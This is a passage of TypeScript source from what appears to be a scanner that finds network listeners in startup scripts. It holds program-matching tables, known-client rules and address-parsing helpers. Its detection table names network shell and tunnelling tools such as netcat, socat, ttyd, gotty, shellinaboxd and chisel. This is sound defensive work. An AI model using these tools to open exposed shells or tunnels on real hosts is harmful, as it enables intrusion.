        fileText?: (path: string) => string | undefined,
        view?: ScriptView,
        /** The program as the command names it (its path, when it has one). */
        command?: string,
    ) => Listener[];
}[] = [
    { names: /^(ncat|nc|netcat)$/, read: (args, _, name) => ncatListeners(name, args) },
    { names: /^socat$/, read: socatListeners },
    { names: /^systemd-socket-activate$/, read: socketActivateListeners },
    { names: /^(in\.)?telnetd$/, read: (args, _, name) => telnetdListeners(name, args) },
    { names: /^ttyd$/, read: ttydListeners },
    { names: /^gotty$/, read: gottyListeners },
    { names: /^shellinaboxd$/, read: shellinaboxdListeners },
    { names: /^python[0-9.]*$/, read: pythonModuleListeners },
    { names: /^proxy$/, read: proxyPyListeners },
    { names: /^caddy$/, read: caddyListeners },
    { names: /^node_exporter$/, read: nodeExporterListeners },
    { names: /^httpd$/, busybox: true, read: busyboxHttpdListeners },
    { names: /^(nc|netcat)$/, busybox: true, read: args => toyboxNetcatListeners(args, true) },
    { names: /^exportfs$/, read: exportfsListeners },
    { names: /^microsocks$/, read: microsocksListeners },
    { names: /^chisel$/, read: chiselListeners },
    { names: /^pproxy$/, read: pproxyListeners },
    { names: /^3proxy$/, read: (args, _, __, fileText, view) => threeProxyListeners(args, fileText, view ?? NO_VIEW) },
    { names: /^gost$/, read: gostListeners },
    // Relays (commandForwarders), pen's control interface besides.
    { names: /^(pen|balance)$/, read: (args, _, name) => (name === "pen" ? penListeners(args) : []) },
    { names: /^ssh$/, read: sshListeners },
    { names: /^autossh$/, read: args => sshListeners(autosshSshArgs(args)) },
    { names: /^dbclient$/, read: args => sshListeners(dropbearSshArgs(args)) },
    { names: /^(tcpsvd|udpsvd|tcpserver)$/, read: superServerListeners },
    { names: /^x?inetd$/, read: superServerConfigListeners },
    { names: /^websocketd$/, read: websocketdListeners },
    { names: /^php[0-9.]*$/, read: phpServerListeners },
    { names: /^rsync$/, read: rsyncDaemonListeners },
    { names: /^smbd$/, read: smbdListeners },
    {
        names: /^jupyter(-[\w-]+)?$/,
        read: (args, _, name, fileText, view) => jupyterListeners(args, name, fileText, view),
    },
    { names: /^python[0-9.]*$/, read: jupyterModuleListeners },
    {
        names: /^(code-server|openvscode-server|code)$/,
        read: (args, _, name, fileText, view) => browserIdeListeners(args, name, fileText, view),
    },
    { names: /^(mitmproxy|mitmdump|mitmweb)$/, read: mitmproxyListeners },
    {
        names: /^flask$/,
        partial: true,
        read: (args, cwd, _, fileText, view) => flaskDebuggerListeners(args, cwd, fileText, view),
    },
    {
        names: /^java$/,
        partial: true,
        read: (args, cwd, __, fileText, view, command) => [
            ...jvmAgentListeners(args, fileText, view, undefined, command),
            ...springStaticListeners(args, cwd, fileText, view ?? NO_VIEW),
        ],
    },
    {
        names: /^jcmd$/,
        partial: true,
        read: (args, _, __, fileText, view) => jcmdListeners(args, fileText, view ?? NO_VIEW),
    },
    {
        names: /^jattach$/,
        partial: true,
        read: (args, _, __, fileText, view) => jattachListeners(args, fileText, view ?? NO_VIEW),
    },
    {
        names: /^python[0-9.]*$/,
        partial: true,
        read: (args, cwd, name, fileText, view) => flaskScriptListeners(args, cwd, name, fileText, view),
    },
    // A script serving files through http.server or a static-file API from its own code (round 54).
    { names: /^python[0-9.]*$/, partial: true, read: pythonFileServerListeners },
    // A script starting a remote debugger from its own code (round 56).
    { names: /^python[0-9.]*$/, partial: true, read: pythonDebuggerListeners },
    // A Node.js program serving files, or what the pack cannot read, from its own code (round 60).
    { names: NODE_RUNNERS, partial: true, read: nodeFileServerListeners },
    // Source code user data writes and a compiler-runner the pack has no reader for runs (round 64).
    { names: SOURCE_RUNNER_NAMES, partial: true, read: sourceRunnerListeners },
];

/**
 * Clients the pack knows, by program and (where the same binary also serves: `vault server|agent|proxy`, `consul agent`,
 * `nomad agent`) the subcommand, each with the options that name the remote server it connects to. They open no
 * socket to listen on whatever that option's value (an IP literal, a variable, a URL), so the fail-closed unread rule
 * (unreadListeners) does not read them as listen addresses. Only subcommands that talk to a server are listed: `consul
 * lock|exec|watch` run commands of their own and `consul connect` proxies listen, so they stay unread. kubectl, aws,
 * curl and wget are judged elsewhere (NOT_UNREAD_SERVERS).
 */
const KNOWN_CLIENTS: { names: RegExp; commands?: RegExp; serverOptions?: RegExp; server: string }[] = [
    // Tenable Nessus command line reference, "Local Agents Commands": `nessuscli agent link --key=<key> --host=<host>
    // --port=<port>` links the agent to Tenable Nessus Manager (also --proxy-host); `agent status|unlink` ask it.
    { names: /^nessuscli$/, commands: /^agent$/, server: "--host, --proxy-host: the Nessus Manager and its proxy" },
    // psql(1): "-h hostname --host=hostname Specifies the host name of the machine on which the server is running";
    // pg_dump/pg_dumpall/pg_restore/pg_isready "-h, --host=HOSTNAME database server host".
    { names: /^(psql|pg_dump|pg_dumpall|pg_restore|pg_isready)$/, server: "-h/--host: the PostgreSQL server" },
    // mysql(1) "--host=host_name, -h host_name Connect to the MySQL server on the given host" (mariadb alike).
    {
        names: /^(mysql|mariadb|mysqldump|mariadb-dump|mysqladmin|mariadb-admin)$/,
        server: "-h/--host: the MySQL or MariaDB server",
    },
    // redis-cli(1) "-h <hostname> Server hostname", "-u <uri> Server URI" (valkey-cli is its fork).
    { names: /^(redis-cli|redis6-cli|valkey-cli)$/, server: "-h, -u: the Redis server" },
    // mongosh "--host <hostname>" and a connection string operand: the MongoDB deployment it connects to.
    { names: /^(mongosh|mongo)$/, server: "--host, mongodb:// operand: the MongoDB deployment" },
    // Vault CLI "-address (string: "https://127.0.0.1:8200") Address of the Vault server", VAULT_ADDR ("Vault commands
    // (CLI)": `vault write -address="http://127.0.0.1:8200" ...`); `vault server|agent|proxy` listen.
    {
        names: /^vault$/,
        commands:
            /^(login|status|kv|read|write|list|delete|patch|token|auth|secrets|policy|lease|unwrap|namespace|audit|operator|version|print)$/,
        server: "-address: the Vault server",
    },
    // Consul CLI "-http-addr The address and port of the Consul HTTP agent", CONSUL_HTTP_ADDR, default
    // http://127.0.0.1:8500 (Consul "Commands": CLI commands "connect with a running agent"); `consul agent` listens.
    {
        names: /^consul$/,
        commands:
            /^(kv|members|catalog|services|acl|info|join|leave|reload|intention|keyring|operator|snapshot|event|login|logout|maint|config|peering|partition|namespace|rtt|version)$/,
        server: "-http-addr: the Consul agent",
    },
    // Nomad CLI "-address=<addr> The address of the Nomad server", NOMAD_ADDR, default http://127.0.0.1:4646; `nomad
    // agent` listens.
    {
        names: /^nomad$/,
        commands:
            /^(job|status|node|alloc|deployment|eval|namespace|var|acl|operator|volume|quota|server|plan|run|stop|version)$/,
        server: "-address: the Nomad server",
    },
    // etcdctl(1) "--endpoints gRPC endpoints", ETCDCTL_ENDPOINTS: the etcd members it talks to (etcd listens).
    { names: /^etcdctl$/, server: "--endpoints: the etcd members" },
    // consul-template "Render templates": `consul-template -consul-addr "10.4.4.6:8500" -vault-addr
    // "https://10.5.32.5:8200"`, the Consul and Vault servers it reads; envconsul (hashicorp/envconsul README: "launch a
    // subprocess with environment variables populated from HashiCorp Consul and Vault") takes the same flags. Neither
    // listens, but each runs a command of its own (envconsul's child, consul-template -exec), so only these options
    // are left unjudged (`serverOptions`).
    {
        names: /^(consul-template|envconsul)$/,
        serverOptions: /^--?(consul|vault)-addr$/,
        server: "-consul-addr, -vault-addr: the Consul and Vault servers",
    },
    // kcat(1) (formerly kafkacat) "-b brokers: Bootstrap broker(s)": the Kafka cluster it produces to, consumes from or
    // lists (-L); it has no mode that listens.
    { names: /^(kcat|kafkacat)$/, server: "-b: the Kafka brokers" },
    // grpcurl (fullstorydev/grpcurl README): "grpcurl [flags] [address] [list|describe] [symbol]", "The address will
    // typically be in the form "host:port"": the gRPC server it calls.
    { names: /^grpcurl$/, server: "the HOST:PORT operand: the gRPC server" },
    // wait-for-it (vishnubob/wait-for-it README) "host:port": the endpoint it tests; the command after `--` is judged
    // as the command it launches (shell.ts WRAPPERS).
    { names: /^wait-for-it(\.sh)?$/, server: "the HOST:PORT operand, -h/-p: the endpoint it waits for" },
    // ClickHouse "Command-Line Client": `clickhouse-client --host server` ("--host, -h: The hostname of the server",
    // default localhost), also `clickhouse client`; it has no mode that listens.
    { names: /^clickhouse-client$/, server: "--host/-h: the ClickHouse server" },
    { names: /^clickhouse$/, commands: /^client$/, server: "--host/-h: the ClickHouse server" },
    // RabbitMQ "Management Command Line Tool": rabbitmqadmin drives the management plugin's HTTP API, `--host=HOST`
    // "connect to host HOST [default: localhost]"; it never listens.
    { names: /^rabbitmqadmin$/, server: "--host/--port: the RabbitMQ management API" },
    // Package managers talking to a registry (npm-publish(1) "--registry", npm-install(1); pip install --index-url;
    // twine upload --repository-url; gem push --host; cargo publish --index): a registry URL, loopback or not, is the
    // server they upload to or download from, never a tunnel's end (TUNNEL_WORDS' `publish`). Subcommands that run a
    // package's scripts as a server (`npm start`, `npm run`, `npm exec`) stay unread.
    {
        names: /^(npm|pnpm|yarn)$/,
        commands:
            /^(publish|unpublish|install|i|ci|add|update|view|info|show|search|login|adduser|logout|whoami|ping|pack|dist-tag|deprecate|owner|audit|outdated|config)$/,
        server: "--registry: the package registry",
    },
    { names: /^pip[0-9.]*$/, commands: /^(install|download|index|search)$/, server: "--index-url: the package index" },
    { names: /^twine$/, commands: /^(upload|register|check)$/, server: "--repository-url: the package index" },
    {
        names: /^gem$/,
        commands: /^(push|install|fetch|yank|owner|search)$/,
        server: "--host, --source: the gem server",
    },
    {
        names: /^cargo$/,
        commands: /^(publish|install|yank|owner|login|logout|search|fetch)$/,
        server: "--index, --registry: the crate registry",
    },
];

/**
 * Whether a command is a known client (KNOWN_CLIENTS): the program, and its first operand when the table restricts
 * it (the subcommand comes first: `vault <command> [options]`, `consul kv get`, `nessuscli agent link`). A client
 * that also runs a command of its own (`serverOptions`) is not one: only those options leave its words (clientWords).
 */
function knownClient(program: string, args: readonly string[]): boolean {
    const command = args.find(w => !w.startsWith("-")) ?? "";
    return KNOWN_CLIENTS.some(
        c =>
            c.names.test(program) &&
            c.serverOptions === undefined &&
            (c.commands === undefined || c.commands.test(command)),
    );
}

/** A command's words less the values of its KNOWN_CLIENTS `serverOptions` (`-consul-addr=ADDR`, `-consul-addr ADDR`). */
function clientWords(program: string, args: readonly string[]): readonly string[] {
    const server = KNOWN_CLIENTS.find(c => c.names.test(program))?.serverOptions;
    if (server === undefined) return args;
    return args.filter((w, i) => !server.test(w.replace(/=[\s\S]*$/, "")) && !server.test(args[i - 1] ?? ""));
}

/**
 * Whether a host is the unspecified address: 0.0.0.0, or written as IPv6 in any spelling (ipAddress: ::, ::0,
 * 0:0::0, the IPv4-mapped ::ffff:0.0.0.0, which binds every IPv4 address; RFC 4291 §2.5.2). inet_aton's other
 * forms of 0 (`0`, `0x0`) are left out: too common a value to read as an address.
 */
const unspecifiedHost = (host: string): boolean => {
    if (host === "0.0.0.0") return true;
    const address = host.includes(":") ? ipAddress(host) : undefined;
    return address !== undefined && ("v4" in address ? address.v4 === 0 : address.v6.every(g => g === 0));
};
/**
 * An address of every interface, given explicitly: 0.0.0.0, [::] or :: in any spelling (unspecifiedHost; with a port
 * or not), or `*:PORT`. A port alone is every address too, but too common a value to read as a listener
 * (`--port=8080`, `-t 30`).
 */
const allAddressesValue = (value: string): boolean =>
    /^(\*|::):\d+$/.test(value) ||
    /^0\.0\.0\.0(:\d+)?$/.test(value) ||
    unspecifiedHost(/^\[([^\]]*)\](?::\d+)?$/.exec(value)?.[1] ?? value);
/**
 * Go's empty host, `:PORT`: every address (Go net.Listen: "If the host in the address parameter is empty or a literal
 * unspecified IP address, Listen listens on all available unicast and anycast IP addresses of the local system").
 * Read as an address where one is expected: a LISTEN_OPTION's value or a HOST:PORT operand.
 */
const EMPTY_HOST = /^:\d+$/;
/**
 * A URI whose host is empty (`socks5://:1080`, `http://:8080/`: Go's empty host, Python's asyncio start_server host
 * "" alike, pproxy README "-l ... (default: http+socks4+socks5://:8080/)"): every address, as the value of an option
 * that is not a client's far end (REMOTE_END_OPTION).
 */
const EMPTY_HOST_URI = /^[a-z][\w+.-]*:\/\/(?:[^/?#@]*@)?:\d+(?:[/?#]|$)/i;
/**
 * Options naming where a server listens (--bind, --listen, --address, --host, --ip, --web.listen-address ...), and
 * ASP.NET Core's `--urls` (kestrelListens). A bare `--url` is commonly a client's far end (REMOTE_END_OPTION).
 */
const LISTEN_OPTION = /^--?[\w.-]*(bind|listen|addr|address|host|interface)[\w.-]*$|^--?(ip|urls)$/i;
/** The items of a listen list (Kestrel's URLs are `;`-separated; other programs use commas or spaces). */
const listItems = (value: string) => value.split(/[;,\s]+/).filter(item => item !== "");

/** Kestrel's URLs beyond loopback: any host but a loopback one (`*`, `+`, a name, an address) is every address. */
const kestrelBeyondLoopback = (value: string) => listItems(value).filter(url => !loopbackOnly([url]));
/**
 * An address of every interface given as a URL's host (addressHost): 0.0.0.0, ::, or Kestrel's `*` and `+` (Kestrel
 * "Configure endpoints": `http://*:5000`, `http://+:5000` bind every address), as allAddressesValue is without a scheme.
 */
const allAddresses = (value: string) =>
    allAddressesValue(value) ||
    (/^[a-z][\w+.-]*:\/\//i.test(value) &&
        (/^(\*|\+)$/.test(addressHost(value)) || unspecifiedHost(addressHost(value))));
/**
 * A literal DNS name of another host (`--host=sensor.cloud.tenable.com`: a client's server), tested on the value's
 * host (addressHost: `https://vault.example.com:8200` is vault.example.com): a launch template shared by every node of
 * a group cannot spell each node's own name, and a server asked to bind another host's address fails (bind(2)
 * EADDRNOTAVAIL). EC2's private DNS names (`ip-10-0-1-15.eu-west-1.compute.internal`: EC2 user guide, "Amazon EC2
 * instance hostname types") name a node, so they do not count; nor do IP literals and variables.
 */
const OTHER_HOST_NAME = /^(?=.*[A-Za-z])(?!.*\.(compute|ec2)\.internal\.?$)[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+\.?$/;
/** Programs that never listen, and the ones whose listening is judged elsewhere (dockerd, kubectl, container runtimes: a container's own arguments). */
const NOT_UNREAD_SERVERS = new RegExp(
    `${/^(echo|printf|logger|tee|sed|awk|grep|cat|curl|wget|ip|ip6?tables(-legacy|-nft|-save|-restore)?|nft|route|ss|netstat|firewall-cmd|sysctl|aws|dockerd|kubectl|docker|podman|nerdctl|ctr|crictl|finch|helm)$/.source}|${
        // Terminal emulators are X clients (their -display an X server's, not a listen address): shellsHandedOut.
        X_TERMINALS.source
    }`,
);
/**
 * A host where an address is expected that names no host by spelling: an IPv4 literal, a bracketed IPv6 one, `*`, or a
 * variable or command substitution (`$NODE_IP`, `$(hostname -i)`; rootReads.ts SUBSTITUTED_MARK where the shell reader
 * put a substitution's output). A literal name is another host's (OTHER_HOST_NAME; a launch template shared by a node
 * group cannot spell each node's own single-label name either) or `localhost`.
 */
const ADDRESS_HOST = new RegExp(
    `^(\\d{1,3}(\\.\\d{1,3}){3}|\\[[^\\]]*\\]|\\*|[^:]*([$\`]|${SUBSTITUTED_MARK.source})[^:]*)$`,
);
/** An address: ADDRESS_HOST with or without `:PORT`, a bare IPv6 literal, or EMPTY_HOST. */
const isAddress = (value: string) =>
    ADDRESS_HOST.test(value.replace(/:\d+$/, "")) ||
    /^[0-9A-Fa-f]*(:[0-9A-Fa-f]*){2,}$/.test(value) ||
    EMPTY_HOST.test(value);
/** A `HOST:PORT` (or `[ADDR]:PORT`) word whose host is an ADDRESS_HOST: an endpoint, which a server listens on. */
const isHostPort = (value: string) => /^(\[[^\]]*\]|[^\s:/@=]*):\d+$/.test(value) && isAddress(value);
/**
 * A value that may be the node's own address, where an address is expected: not provably loopback (loopbackOnly: a
 * loopback address or a unix socket) nor OTHER_HOST_NAME. An IP literal, a variable or a command's output may be the
 * node's own address, which every pod reaches as it reaches 0.0.0.0 (Kubernetes "Cluster Networking": pods on a node
 * can communicate with all agents on that node).
 */
const mayBeNodeAddress = (value: string) =>
    value !== "" && !loopbackOnly([value]) && !OTHER_HOST_NAME.test(addressHost(value));
/** Programs named as servers (http-server, websockify, a proxy, a tunnel): an address option's value is where they listen. */
const LISTENER_PROGRAM = /serve|httpd|proxy|websockify|socks|tunnel|relay|listen|gateway/i;
/**
 * Options naming the far end a client connects to (openssl -connect, etcdctl --endpoints, --upstream, --server; Kafka's
 * console clients' --broker-list, "The broker list string in the form HOST1:PORT1,HOST2:PORT2", now --bootstrap-server).
 */
const REMOTE_END_OPTION = /connect|server|endpoint|upstream|target|remote|dest|peer|join|url|backend|master|broker/i;
/**
 * Environment variables naming where a program listens (uvicorn's UVICORN_HOST, Flask's FLASK_RUN_HOST, Streamlit's
 * STREAMLIT_SERVER_ADDRESS, a bare HOST or PORT: uvicorn "Settings": "Use environment variables with the prefix
 * UVICORN_"; Flask "Command Line Interface", "Setting Command Options": FLASK_COMMAND_OPTION).
 */
const LISTEN_VARIABLE = /(^|_)(HOST|BIND|LISTEN|ADDR|ADDRESS|IP|PORT)$/;
/**
 * Environment variables listing the URLs a server listens on (a `;`, `,` or space separated list, each judged by its
 * host): ASP.NET Core's ASPNETCORE_URLS and DOTNET_URLS (KESTREL_URLS), etcd's ETCD_LISTEN_CLIENT_URLS, a LISTEN_URL
 * or BIND_URL. An ADVERTISE one is what others are told to dial, not a bind.
 */
const LISTEN_URLS_VARIABLE = /^(?!.*ADVERTISE)(.*_URLS|(.*_)?(LISTEN|BIND)_URL)$/;
/**
 * An ASP.NET Core configuration key as every provider gives it (MS Learn "Configuration in ASP.NET Core"): `:`
 * separates its levels (`__` in environment variable names: "__, the double underscore, is ... automatically replaced
 * by a colon, :"), names are case-insensitive, and ASPNETCORE_- and DOTNET_-prefixed environment variables are loaded
 * with "the prefix stripped" (unprefixed ones are loaded too).
 */
const configurationKey = (name: string) =>
    name
        .replace(/^(ASPNETCORE|DOTNET)_/i, "")
        .replace(/__/g, ":")
        .toLowerCase();
/**
 * Kestrel's URLs (`urls`, ASPNETCORE_URLS: "a semicolon-separated list of URL prefixes"; an endpoint's
 * `Kestrel:Endpoints:NAME:Url`; Kestrel "Configure endpoints": `http://*:5000`, `http://+:5000`, and "Anything not
 * recognized as a valid IP address or localhost binds to all IPv4 and IPv6 IPs"): any host but loopback is every
 * address, a DNS name too.
 */
const KESTREL_URLS = /^(urls|kestrel:endpoints:[^:]+:url)$/;
/**
 * Kestrel's ports (since .NET 8: `http_ports`/`https_ports`, ASPNETCORE_HTTP_PORTS ..., "a semicolon separated list
 * of ports" bound on all interfaces, as `http://*:PORT`: Kestrel "Configure endpoints", "Configure endpoints with
 * environment variables"): every address.
 */
const KESTREL_PORTS = /^https?_ports$/;
/**
 * Where a Kestrel listen setting (KESTREL_URLS, KESTREL_PORTS) listens beyond loopback, from any configuration provider
 * (environment variable, command-line key, appsettings.json path: configurationKey); undefined for another key. The one
 * reader of ASP.NET Core's listen settings.
 */
function kestrelListens(name: string, value: string): string[] | undefined {
    const key = configurationKey(name);
    if (KESTREL_URLS.test(key)) return kestrelBeyondLoopback(value);
    if (KESTREL_PORTS.test(key)) return listItems(value).map(port => `*:${port}`);
    return undefined;
}
/**
 * A command-line configuration setting ending at `args[i]` (MS Learn "Configuration in ASP.NET Core", "Command-line":
 * `key=value`, `--key=value`, `/key=value`, or `--key value`, `/key value`, the value the next word); the host reads
 * the command line over every other source.
 */
function commandLineSetting(args: readonly string[], i: number): { key: string; value: string } | undefined {
    const inline = /^(?:--|\/)?([^-=/\s][^=\s]*)=([\s\S]*)$/.exec(args[i]);
    if (inline) return { key: inline[1], value: inline[2] };
    const named = /^(?:--|\/)([^=\s]+)$/.exec(args[i - 1] ?? "");
    return named ? { key: named[1], value: args[i] } : undefined;
}
/**
 * Environment variables holding a program's command-line options: gunicorn's GUNICORN_CMD_ARGS (gunicorn "Settings":
 * "Settings can be specified by using environment variable GUNICORN_CMD_ARGS. All available command line arguments
 * can be used", `GUNICORN_CMD_ARGS="--bind=127.0.0.1 --workers=3"`), JAVA_OPTS, NODE_OPTIONS. Read as its arguments
 * when they are its own (named with its name as their prefix) or given to it alone.
 */
const ARGUMENTS_VARIABLE = /(^|_)(ARGS|OPTS|OPTIONS)$/;
/**
 * Variables naming the server a client talks to, never where a program listens: Vault CLI "VAULT_ADDR: Address of the
 * Vault server" and VAULT_AGENT_ADDR; Consul CLI CONSUL_HTTP_ADDR and CONSUL_GRPC_ADDR (the agent it connects to, as
 * consul-template's -consul-addr); Nomad CLI NOMAD_ADDR ("The address of the Nomad server"); Boundary CLI
 * BOUNDARY_ADDR; Docker CLI DOCKER_HOST ("Daemon socket to connect to"); mysql(1) MYSQL_HOST ("The default host name
 * used by the mysql command-line client"); Datadog tracers' DD_AGENT_HOST and Jaeger clients' JAEGER_AGENT_HOST (the
 * agent they send spans to).
 */
const CLIENT_VARIABLE =
    /^(VAULT_ADDR|VAULT_AGENT_ADDR|CONSUL_HTTP_ADDR|CONSUL_GRPC_ADDR|NOMAD_ADDR|BOUNDARY_ADDR|DOCKER_HOST|MYSQL_HOST|DD_AGENT_HOST|JAEGER_AGENT_HOST)$/;
/**
 * Words naming a backing service an app connects to (twelve-factor "IV. Backing services": "a datastore (such as
 * MySQL or CouchDB), messaging/queueing systems (such as RabbitMQ or Beanstalkd), SMTP services ... and caching
 * systems", handed to the app in its config): in a setting's name before its address word (DB_HOST, REDIS_HOST,
 * SMTP_HOST, Spring Boot's spring.data.redis.host "Redis server host", the Datadog tracer's dd.agent.host). Log,
 * metric and trace sinks are backing services too (twelve-factor "XI. Logs": the app's stream is routed "to one or
 * more final destinations"): a syslog server (Python logging.handlers.SysLogHandler address, "the address ... to send
 * to"), Logstash, Fluentd/Fluent Bit, Graylog (GELF), Loki, Sentry, InfluxDB, Graphite, an MQTT broker, ClickHouse.
 * So are service registries, secret stores and workflow engines and queues (Spring Cloud Consul: an app "will try to
 * contact a Consul agent on localhost:8500 (the default values of spring.cloud.consul.host and
 * spring.cloud.consul.port)"; spring.cloud.vault.host "Vault server host"; Eureka; Temporal CLI/SDK TEMPORAL_ADDRESS,
 * "Temporal Service gRPC endpoint"; Celery, Pulsar, NSQ, Beanstalkd, ActiveMQ/Artemis). So is the proxy a client goes
 * through (Java "Networking Properties": http.proxyHost/https.proxyHost "the proxy server ... the HTTP protocol handler
 * will use", ftp.proxyHost, socksProxyHost, http.nonProxyHosts: hosts "connected to directly"), and the network HSM
 * or key manager an app keeps its keys in (OASIS KMIP: clients call a key management server; a PKCS#11 HSM's host).
 */
const FAR_END_WORD =
    /^(PROXY|HSM|KMIP|PKCS11|DB|DATABASE|DATASOURCE|POSTGRES|POSTGRESQL|PG|MYSQL|MARIADB|MSSQL|SQLSERVER|ORACLE|CLICKHOUSE|REDIS|VALKEY|MEMCACHED?|MONGO|MONGODB|CASSANDRA|SCYLLA|COUCHDB|COUCHBASE|NEO4J|KAFKA|AMQP|RABBITMQ|NATS|MQTT|ZOOKEEPER|ETCD|SMTP|MAIL|LDAP|ES|ELASTIC|ELASTICSEARCH|OPENSEARCH|SOLR|STATSD|GRAPHITE|INFLUX|INFLUXDB|PROMETHEUS|SYSLOG|LOGSTASH|FLUENT|FLUENTD|FLUENTBIT|GRAYLOG|GELF|LOKI|SENTRY|JAEGER|ZIPKIN|AGENT|COLLECTOR|EXPORTER|OTLP|UPSTREAM|BROKER|CONSUL|VAULT|NOMAD|EUREKA|TEMPORAL|CADENCE|CELERY|PULSAR|NSQ|NSQD|NSQLOOKUPD|BEANSTALKD|ACTIVEMQ|ARTEMIS)$/;
/**
 * The last word of a setting naming a far end's address, or a list of them: HOST, ADDR, PORT, URL ... and Spring Boot's
 * spring.cassandra.contact-points ("Cluster node addresses in the form 'host:port'"), spring.elasticsearch.uris,
 * spring.kafka.bootstrap-servers, spring.rabbitmq.addresses; ES_NODES, a client's SEEDS or DSN.
 */
const FAR_END_ADDRESS_WORD =
    /^(HOSTS?|HOSTNAME|ADDRS?|ADDRESS(ES)?|IPS?|PORTS?|URLS?|URIS?|ENDPOINTS?|SERVERS?|POINTS|NODES?|SEEDS|BROKERS|DSN)$/;
/**
 * Programs whose own settings carry a backing-service word for a part of themselves: Jaeger's components (jaegertracing.io
 * "CLI flags": `--collector.otlp.grpc.host-port` "The host:port ... of the collector's gRPC server", also read from
 * COLLECTOR_OTLP_GRPC_HOST_PORT; `--query.http-server.host-port`), the OpenTelemetry Collector's, Elasticsearch's.
 */
const OWN_SERVICE_WORDS: { program: RegExp; words: RegExp }[] = [
    { program: /^(jaeger|otelcol)/i, words: /^(COLLECTOR|AGENT|QUERY|INGESTER|EXPORTER|OTLP)$/ },
    // Elasticsearch 2.x "Setup": `bin/elasticsearch -Des.network.host=...` (es. is its own settings' prefix).
    { program: /^elasticsearch/i, words: /^ES$/ },
];
/**
 * A value naming every address (0.0.0.0, ::, `*`, `+`, Go's empty host `:PORT`, a URL with one, in a list or not):
 * where a server listens, never a client's far end (a client cannot connect to every address).
 */
const namesEveryAddress = (value: string) =>
    listItems(value).some(item => /^(\*|\+|)$/.test(addressHost(item)) || unspecifiedHost(addressHost(item)));
/**
 * Whether a setting names the server a client talks to, never where its program listens: an environment variable,
 * or an option or `-D` system property in that spelling (upper case, `.`/`-` as `_`: the Datadog tracer's own
 * conversion, dd.agent.host = DD_AGENT_HOST; camelCase split, https.proxyHost = HTTPS_PROXY_HOST): a CLIENT_VARIABLE,
 * or a FAR_END_ADDRESS_WORD last after a FAR_END_WORD with no BIND or LISTEN word, unless the program is named for
 * that word (redis-server's REDIS_HOST, statsd's
 * STATSD_HOST, syslog-ng's SYSLOG_HOST, a broker's --broker-addr, Jaeger's --collector.* are their own listen
 * settings). Never one whose `value` names every address (namesEveryAddress).
 */
function clientSetting(name: string, program: string, value = ""): boolean {
    const words = name
        .replace(/^--?(D(?=[a-z]))?/, "")
        .replace(/([a-z0-9])(?=[A-Z])/g, "$1_")
        .toUpperCase()
        .split(/[^A-Z0-9]+/)
        .filter(w => w !== "");
    // Named for it: a word of its name starts with it (redis-server, statsd, mongod, mini-broker, syslog-ng).
    const own = program.toUpperCase().split(/[^A-Z0-9]+/);
    const ownWord = (w: string) =>
        own.some(o => o.startsWith(w)) || OWN_SERVICE_WORDS.some(s => s.program.test(program) && s.words.test(w));
    return (
        !namesEveryAddress(value) &&
        (CLIENT_VARIABLE.test(words.join("_")) ||
            (FAR_END_ADDRESS_WORD.test(words.at(-1) ?? "") &&
                !words.some(w => /^(BIND|LISTEN)/.test(w)) &&
                words.slice(0, -1).some(w => FAR_END_WORD.test(w) && !ownWord(w))))
    );
}
/**
 * Python modules run with `python -m` that install, build or compile and never listen: pip ("python -m pip install"),
 * venv and virtualenv (create environments), ensurepip (bootstraps pip), compileall and py_compile (byte-compile
 * sources): Python docs "Python Module Index". They are not applications taking HOST or PORT from their environment.
 */
const NON_SERVING_MODULES = /^(pip[0-9.]*|venv|virtualenv|ensurepip|compileall|py_compile)$/;

/**
 * What `python [options] SCRIPT | -m MODULE | -c COMMAND` runs (python(1), Python "Command line and environment": -W
 * and -X take a value; -c and -m end the interpreter's options, like the script, later words being its arguments).
 */
function pythonInvocation(
    args: readonly string[],
): { kind: "script" | "c" | "m"; value: string; rest: string[] } | undefined {
    for (let i = 0; i < args.length; i++) {
        const option = /^-[bBdEhiIOPqRsSuvVx]*([cmWX])(.*)$/.exec(args[i]);
        if (!option) {
            if (/^-./.test(args[i])) continue;
            return { kind: "script", value: args[i], rest: args.slice(i + 1) };
        }
        const value = option[2] || (args[++i] ?? "");
        if (option[1] === "c" || option[1] === "m") return { kind: option[1], value, rest: args.slice(i + 1) };
    }
    return undefined;
}

/** The module `python [options] -m MODULE` runs (pythonInvocation). */
const pythonModule = (args: readonly string[]): string | undefined => {
    const run = pythonInvocation(args);
    return run?.kind === "m" ? run.value : undefined;
};

/**
 * The program a `python` command runs, as the files user data wrote (pythonInvocation): SCRIPT (a directory its
 * DIR/__main__.py); `-m MODULE` its file,
 * a package's PACKAGE/__main__.py (python(1) -m: "If this option is given a package name, <pkg>.__main__ is executed
 * as the main module"; Python "__main__ — Top-level code environment"), with its parent packages' __init__.py, which
 * runpy imports first; `-c COMMAND` the command itself ("-c command: Specify the command to execute"). `roots` its
 * import path (Python "The Module Search Path": the script's directory; for -m and -c the working directory, "As with
 * the -c option, the current directory will be added to the start of sys.path"; then PYTHONPATH). `python -m flask`
 * is the flask command, `flask` its arguments. Undefined when user data wrote no file it runs.
 */
function pythonEntry(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { label: string; path: string; files: PythonFile[]; roots: string[] } | { flask: string[] } | undefined {
    const run = pythonInvocation(args);
    if (run === undefined) return undefined;
    if (run.kind === "m" && run.value === "flask") return { flask: run.rest };
    if (cwd === undefined) return undefined;
    // PYTHONPATH as user data assigns it anywhere (ScriptView: a prefix assignment, export, env); a value the pack
    // cannot compute (`$PYTHONPATH:/opt/lib`, a relative entry) may hold any directory: a file it does not read.
    const assignedPaths = view.environment.get("PYTHONPATH") ?? [];
    const pythonPath = assignedPaths.flatMap(v => (v ?? "").split(":")).filter(p => p.startsWith("/"));
    const unknownPath: PythonFile[] = assignedPaths.some(
        v => v === undefined || v.split(":").some(p => !p.startsWith("/")),
    )
        ? [{ path: "PYTHONPATH (a value the pack cannot compute)", text: null }]
        : [];
    if (run.kind === "script") {
        const path = posix.resolve(cwd, run.value);
        const text = fileText?.(path);
        if (text !== undefined)
            return {
                label: run.value,
                path,
                files: [{ path, text }, ...unknownPath],
                roots: [posix.dirname(path), ...pythonPath],
            };
        // A directory runs its __main__.py, the directory first on the import path (Python "Command line and
        // environment", <script>: "a directory name or zipfile containing a __main__.py file"; runpy.run_path).
        const main = posix.join(path, "__main__.py");
        const mainText = fileText?.(main);
        if (mainText === undefined) return undefined;
        return {
            label: run.value,
            path: main,
            files: [{ path: main, text: mainText }, ...unknownPath],
            roots: [path, ...pythonPath],
        };
    }
